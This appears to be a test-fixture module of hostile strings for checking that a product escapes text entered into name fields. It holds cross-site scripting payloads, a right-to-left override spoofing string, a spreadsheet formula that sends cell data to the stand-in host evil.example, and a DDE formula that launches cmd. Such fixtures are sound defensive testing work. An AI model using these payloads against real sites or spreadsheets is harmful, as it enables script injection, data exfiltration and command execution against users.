/**
 * Texts as a broker, a neighbour or a colleague with bad intentions would write them into a name. Each that runs leaves its number
 * in `garamRan` of the window.
 */
export const RAN = 'garamRan'

export const IMAGE = '<img src=x onerror=garamRan=1>'
export const SCRIPT = '<script>garamRan=2</script>'
export const VECTOR = '"><svg onload=garamRan=3>'
export const END = '</script><script>garamRan=4</script>'
export const LINK = 'javascript:garamRan=5'
export const ATTRIBUTE = `' autofocus onfocus=garamRan=6 x="`
export const FRAME = '<iframe srcdoc="<script>parent.garamRan=7</script>">'
export const REMOTE = '<img src=https://evil.example/8>'
/** A right-to-left override, which turns what follows around. */
export const REVERSED = '거래\u202Eexe.량급증'

/** What spreadsheets take for a formula. */
export const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"열기")'
export const PLUS = '+SUM(1,1)*cmd|/C calc!A0'
